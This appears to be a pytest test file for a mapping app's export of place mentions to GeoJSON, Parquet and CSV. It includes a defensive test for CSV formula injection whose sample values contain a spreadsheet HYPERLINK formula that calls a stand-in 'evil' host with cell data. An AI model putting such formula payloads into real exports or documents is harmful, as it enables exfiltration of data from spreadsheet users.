"""Export: files other tools read back with the right rows, from the CLI and the app's view."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import geopandas
import pandas as pd
import pytest
from handmade import BAKHMUT as BAKHMUT_PLACE
from handmade import parse_article
from store_support import write_corpus

from mapapp import paths
from mapapp.corpus import reader
from mapapp.ingest.pipeline import SerialRunner, add_articles, ingest
from mapapp.model import Article, ParsedArticle, PartialDate
from mapapp.periods import locate_date
from mapapp.store.reader import Store
from mapapp.timeline.export import (
    EXPORT_COLUMNS,
    export_mentions,
    export_store,
    store_frame,
    timeline_frame,
)
from mapapp.timeline.windows import build_timeline

ROOT = Path(__file__).resolve().parents[2]
BAKHMUT = "713174"


@pytest.fixture(scope="module")
def store(gazetteer, geoparser, tmp_path_factory) -> Store:
    folder = tmp_path_factory.mktemp("corpus")
    write_corpus(folder, gazetteer, 30)
    path = tmp_path_factory.mktemp("s") / "store"
    ingest([folder, paths.seed_dir()], path, SerialRunner(geoparser), progress=False)
    return Store.open(path)


def _expected(store: Store, since: str, until: str, place: str | None = None) -> pd.DataFrame:
    df = store.mentions_between(since, until, place_ids=None if place is None else [place])
    return df.sort_values(["article_id", "start"], ignore_index=True)


def _cli_export(store: Store, out: Path, *args: str) -> subprocess.CompletedProcess:
    cmd = [sys.executable, "-m", "mapapp", "export", "--store", str(store.root), "-o", str(out),
           *args]
    return subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("fmt", ["geojson", "parquet", "csv"])
def test_cli_export_reads_back_with_the_right_rows(store, tmp_path, fmt):
    out = tmp_path / f"out.{fmt}"
    run = _cli_export(store, out, "--format", fmt, "--since", "2023-02", "--until", "2023-03-15")
    assert run.returncode == 0, run.stderr
    want = _expected(store, "2023-02", "2023-03-15")
    got = pd.read_csv(out) if fmt == "csv" else geopandas.read_file(out) if fmt == "geojson" \
        else geopandas.read_parquet(out)
    assert f"{len(want):,} mentions" in run.stdout and len(got) == len(want) > 0
    got = got.sort_values(["article_id", "start"], ignore_index=True)
    assert got["article_id"].tolist() == want["article_id"].tolist()
    assert got["place_id"].astype(str).tolist() == want["place_id"].tolist()
    if fmt == "csv":
        lon, lat = got["lon"], got["lat"]
    else:
        assert got.crs.to_string() in ("OGC:CRS84", "EPSG:4326")
        lon, lat = got.geometry.x, got.geometry.y
    assert lon.tolist() == pytest.approx(want["lon"].tolist())
    assert lat.tolist() == pytest.approx(want["lat"].tolist())
    assert set(EXPORT_COLUMNS) - {"lat", "lon"} <= set(got.columns)


def test_export_of_one_place_carries_its_sentences(store, tmp_path):
    out = tmp_path / "bakhmut.geojson"
    assert _cli_export(store, out, "--place", BAKHMUT).returncode == 0  # format from suffix
    features = json.loads(out.read_text(encoding="utf-8"))["features"]
    assert len(features) == len(_expected(store, "1900-01", "2100-12", BAKHMUT)) > 0
    props = features[0]["properties"]
    assert props["place_id"] == BAKHMUT and props["place_name"] == "Bakhmut"
    texts = dict(zip(*store.articles([props["article_id"]], ["article_id", "text"]).T.values,
                     strict=True))
    assert props["sentence"] and props["sentence"] in texts[props["article_id"]]
    assert props["surface"] in props["sentence"]


def test_the_apps_view_exports_the_same_rows_as_the_store(store):
    tl = build_timeline(store.parsed_between("1900-01", "2100-12"), reader.display_title)
    lo = hi = locate_date(tl.axis, "2023-03")
    view = timeline_frame(tl, lo, hi).sort_values(["article_id", "start"], ignore_index=True)
    stored = store_frame(store, "2023-03", "2023-03").sort_values(["article_id", "start"],
                                                                   ignore_index=True)
    pd.testing.assert_frame_equal(view, stored)
    data = export_mentions(view, "csv")
    assert len(pd.read_csv(io.BytesIO(data))) == len(view) > 0


def test_bytes_for_the_download_button(store):
    df = store_frame(store, "2023-01", "2023-01", BAKHMUT)
    doc = json.loads(export_mentions(df, "geojson"))
    assert doc["type"] == "FeatureCollection" and len(doc["features"]) == len(df)
    back = geopandas.read_parquet(io.BytesIO(export_mentions(df, "parquet")))
    assert len(back) == len(df) and back.crs.to_string() == "OGC:CRS84"


def test_a_csv_streamed_over_months_has_one_header(store, tmp_path):
    months = store.months()
    early = set(store.mentions_between(months[0], months[0])["place_id"])
    late = store.mentions_between(months[-1], months[-1])
    place = next(p for p in late["place_id"] if p not in early)  # missing from month 1
    assert export_store(store, tmp_path / "p.csv", "csv", place_id=place) > 0
    text = (tmp_path / "p.csv").read_text(encoding="utf-8")
    assert text.count("article_id,") == 1
    assert set(pd.read_csv(tmp_path / "p.csv", dtype=str)["place_id"]) == {place}


def test_empty_exports_are_valid_files(store, tmp_path):
    for fmt in ("geojson", "parquet", "csv"):
        out = tmp_path / f"empty.{fmt}"
        assert export_store(store, out, fmt, place_id="no-such-place") == 0
        if fmt == "geojson":
            assert json.loads(out.read_text())["features"] == []
        elif fmt == "parquet":
            assert len(geopandas.read_parquet(out)) == 0
        else:
            assert list(pd.read_csv(out).columns) == list(EXPORT_COLUMNS)


def test_bad_input_says_what_to_do(store, tmp_path):
    with pytest.raises(ValueError, match="needs the columns"):
        export_mentions(pd.DataFrame({"article_id": []}), "csv")
    with pytest.raises(ValueError, match="unknown export format"):
        export_mentions(store_frame(store, "2023-01", "2023-01"), "xlsx")
    run = _cli_export(store, tmp_path / "out.xlsx")
    assert run.returncode == 2 and "--format" in run.stderr


# ------------------------------------------------- CSV formula injection (issue 15, item 10)

FORMULAS = {"article_id": "@a1", "title": '=HYPERLINK("http://evil/"&A1,"x")',
            "source": "+31 6 1234", "url": "-2+3", "sentence": "\t=1+1 Bachmoet valt."}


class WestOfGreenwich:
    """A stand-in geoparser that puts Bakhmut at a negative longitude: a number with a minus."""

    def parse(self, article: Article) -> ParsedArticle:
        return parse_article(article, {"Bachmoet": replace(BAKHMUT_PLACE, lat=-33.5, lon=-58.25)})


def test_csv_export_neutralises_formulas_and_keeps_numbers(tmp_path):
    path = tmp_path / "store"
    article = Article(FORMULAS["article_id"], PartialDate(2023, 3), FORMULAS["sentence"],
                      title=FORMULAS["title"], source=FORMULAS["source"], url=FORMULAS["url"])
    add_articles(Store.open(path, create=True), [article], WestOfGreenwich())
    out = tmp_path / "out.csv"
    run = _cli_export(Store.open(path), out, "--format", "csv")
    assert run.returncode == 0, run.stderr
    (row,) = csv.DictReader(out.open(encoding="utf-8", newline=""))
    for column, value in FORMULAS.items():  # a spreadsheet shows the text, runs nothing
        assert row[column] == "'" + value.strip()
    assert (row["lat"], row["lon"], row["start"]) == ("-33.5", "-58.25", "6")  # numbers stay
    assert row["surface"] == "Bachmoet" and row["date"] == "2023-03"
    geojson = tmp_path / "out.geojson"
    assert _cli_export(Store.open(path), geojson, "--format", "geojson").returncode == 0
    (feature,) = json.loads(geojson.read_text(encoding="utf-8"))["features"]
    assert feature["properties"]["title"] == FORMULAS["title"]  # other formats: as written


def test_an_older_stores_seed_path_leaves_as_the_files_name(tmp_path):
    """Stores written before the reader named files relative to the corpus hold the server's
    path of a .txt article as its source: a download carries only the file's name."""
    path = tmp_path / "store"
    article = Article("a1", PartialDate(2023, 3), "Bachmoet valt.", source="/srv/corpus/a1.txt")
    add_articles(Store.open(path, create=True), [article], WestOfGreenwich())
    out = tmp_path / "out.csv"
    assert _cli_export(Store.open(path), out, "--format", "csv").returncode == 0
    (row,) = csv.DictReader(out.open(encoding="utf-8", newline=""))
    assert row["source"] == "a1.txt"
